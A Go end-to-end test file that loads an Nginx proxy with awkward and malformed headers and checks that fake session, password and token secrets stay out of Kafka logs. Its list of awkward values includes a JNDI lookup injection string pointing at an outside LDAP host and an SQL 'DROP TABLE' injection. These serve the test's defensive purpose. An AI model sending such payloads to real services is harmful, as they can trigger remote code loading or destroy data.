package e2e

import (
	"bufio"
	"encoding/base64"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
)

// What must never be seen in clear text in Kafka.
const (
	cookieSecret   = "session-of-a-customer"
	passwordSecret = "pass word of John"
	tokenSecret    = "bearer-of-a-partner"
)

// awkward are header values that break naive loggers and parsers.
var awkward = []string{
	"plain", "", "-", "a  b", "a\tb", `say "hi"`, `back\slash \x22 \u0041`, "100% %41 a&b=c", "é € 😀 日本", "caf\xe9", "\xff\xfe \xc3( \xed\xa0\x80", "\xe2\x82(",
	"\x01\x1b[31m\x7f", "{\"json\":[1,\"\\u00ff\"]}", "${jndi:ldap://203.0.113.9/a}", "'; DROP TABLE x; --", strings.Repeat("0123456789abcdef", 60), "\uFFFD",
}

// load sends requests to Nginx over raw connections and remembers each with its answer.
type load struct {
	addr     string
	finished atomic.Int64 // requests answered so far

	runs int // used by run only

	mu        sync.Mutex // guards the following
	exchanges []exchange
	garbage   int // requests that were no HTTP, each a log line without an id
	err       error
}

// run lets workers send so many requests each, side by side, and returns when all are answered. It may be called again.
func (l *load) run(workers, each int) {
	l.runs++
	var wg sync.WaitGroup
	for w := range workers {
		name := fmt.Sprintf("r%dw%d", l.runs, w)
		wg.Go(func() {
			if err := l.worker(name, rand.New(rand.NewPCG(uint64(l.runs), uint64(w))), each); err != nil {
				l.mu.Lock()
				l.err = fmt.Errorf("worker %s: %w", name, err)
				l.mu.Unlock()
			}
		})
	}
	wg.Wait()
}

// worker sends its requests one after the other over one connection.
func (l *load) worker(name string, rnd *rand.Rand, each int) error {
	conn, err := net.Dial("tcp", l.addr)
	if err != nil {
		return fmt.Errorf("connect to Nginx: %w", err)
	}
	defer conn.Close()
	reader := bufio.NewReaderSize(conn, 64<<10)
	var buf []byte
	for i := range each {
		e, body := makeRequest(rnd, fmt.Sprintf("%s-%d", name, i))
		buf = e.appendRequest(buf[:0], body)
		if _, err := conn.Write(buf); err != nil {
			return fmt.Errorf("send request %s: %w", e.ID, err)
		}
		if err := e.readResponse(reader); err != nil {
			return fmt.Errorf("request %s: %w", e.ID, err)
		}
		l.mu.Lock()
		l.exchanges = append(l.exchanges, e)
		l.mu.Unlock()
		l.finished.Add(1)
		if i%50 == 49 {
			if err := l.sendGarbage(rnd); err != nil {
				return err
			}
		}
	}
	return nil
}

// makeRequest makes a request with its id and a choice of awkward headers.
func makeRequest(rnd *rand.Rand, id string) (e exchange, body []byte) {
	e = exchange{ID: id, Method: "GET", Request: []pair{p("Host", "shop.example"), p("X-E2e-Id", id)}}
	switch rnd.IntN(10) {
	case 0:
		e.Method, e.Target = "HEAD", []byte("/item/head")
	case 1:
		e.Method, e.Target, body = "POST", []byte("/cart?step=2"), []byte("item=bell&n=1")
		e.Request = append(e.Request, p("Content-Type", "application/x-www-form-urlencoded"), p("Content-Length", fmt.Sprint(len(body))))
	case 2:
		e.Target = []byte("/moved")
	case 3:
		e.Target = []byte("/raw/\xff\xc3é\"'\\<>?q=\xfe\"ü%20&b=%22")
	case 4:
		e.Target = []byte("/local")
	default:
		e.Target = fmt.Appendf(nil, "/item/%d?color=red&n=%d", rnd.IntN(1e6), rnd.IntN(9))
	}
	for _, name := range []string{"User-Agent", "Accept", "Referer", "X-Note", "x-lower", "X-UPPER"} {
		if rnd.IntN(3) > 0 {
			e.Request = append(e.Request, p(name, awkward[rnd.IntN(len(awkward))]))
		}
	}
	for range rnd.IntN(4) {
		e.Request = append(e.Request, p([]string{"X-Dup", "x-dup"}[rnd.IntN(2)], awkward[rnd.IntN(len(awkward))]))
	}
	if rnd.IntN(2) == 0 {
		e.Request = append(e.Request, p("Cookie", "session="+cookieSecret+"; theme=dark"), p("Cookie", "b=2"))
	}
	if rnd.IntN(4) == 0 {
		e.User = "John \"J\" Doe"
		e.Request = append(e.Request, p("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte(e.User+":"+passwordSecret))))
	}
	if rnd.IntN(4) == 0 {
		e.Request = append(e.Request, p("X-E2e-Token", tokenSecret))
	}
	return e, body
}

// sendGarbage sends what is no HTTP over a connection of its own.
func (l *load) sendGarbage(rnd *rand.Rand) error {
	garbage := []string{"\x16\x03\x01\x02\x00\x01\xfc\x03\x03\"\\\n", "SSH-2.0-Go\r\n", "\"\xff\x00\r\n", "GET / HTTP/9.9\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"}
	conn, err := net.Dial("tcp", l.addr)
	if err != nil {
		return fmt.Errorf("connect to Nginx: %w", err)
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, garbage[rnd.IntN(len(garbage))]); err != nil {
		return fmt.Errorf("send garbage: %w", err)
	}
	if _, err := io.Copy(io.Discard, conn); err != nil {
		return fmt.Errorf("read the answer to garbage: %w", err)
	}
	l.mu.Lock()
	l.garbage++
	l.mu.Unlock()
	return nil
}

// backend is the server behind Nginx: it answers with awkward headers. It stops at the end of the test.
func backend(t *testing.T) string {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	wg.Go(func() {
		for n := uint64(0); ; n++ {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			wg.Go(func() {
				defer conn.Close()
				answer(conn, rand.New(rand.NewPCG(n, 7)))
			})
		}
	})
	t.Cleanup(func() {
		listener.Close()
		wg.Wait()
	})
	return listener.Addr().String()
}

// answer reads one request, with its body, and answers it. A request that breaks off gets no answer.
func answer(conn net.Conn, rnd *rand.Rand) {
	r := bufio.NewReader(conn)
	var length int64
	head := false
	for first := true; ; first = false {
		line, err := r.ReadString('\n')
		if err != nil {
			return
		}
		head = head || first && strings.HasPrefix(line, "HEAD ")
		if line == "\r\n" {
			break
		}
		if value, ok := strings.CutPrefix(strings.ToLower(line), "content-length: "); ok {
			fmt.Sscan(value, &length)
		}
	}
	if _, err := io.CopyN(io.Discard, r, length); err != nil {
		return
	}
	var out strings.Builder
	body := strings.Repeat("x", rnd.IntN(3000))
	fmt.Fprintf(&out, "HTTP/1.0 %s\r\nContent-Type: text/html\r\nContent-Length: %d\r\n", []string{"200 OK", "404 Not Found", "500 Oops"}[rnd.IntN(3)], len(body))
	for range rnd.IntN(5) {
		fmt.Fprintf(&out, "%s: %s\r\n", []string{"X-Out", "x-out", "X-Cache", "ETag"}[rnd.IntN(4)], awkward[rnd.IntN(len(awkward))])
	}
	if rnd.IntN(3) == 0 {
		fmt.Fprintf(&out, "Set-Cookie: session=%s; Path=/\r\nSet-Cookie: b=2\r\n", cookieSecret)
	}
	out.WriteString("\r\n")
	if !head {
		out.WriteString(body)
	}
	io.WriteString(conn, out.String())
}
